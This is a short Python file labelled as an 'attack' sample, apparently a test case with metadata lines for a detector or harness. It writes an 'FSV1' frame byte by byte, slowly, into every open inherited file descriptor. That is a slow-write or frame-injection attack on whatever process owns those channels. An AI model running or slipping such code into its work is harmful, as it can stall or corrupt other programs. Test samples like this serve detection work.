# attack: sends a frame byte by byte, each in good time
# lines: 5 14
# sign: slow
# control: none, there is no channel
import os
import time

for descriptor in range(3, 64):
    try:
        os.fstat(descriptor)
    except OSError:
        continue
    for byte in b"FSV1" + bytes(200):
        os.write(descriptor, bytes([byte]))
        time.sleep(0.1)
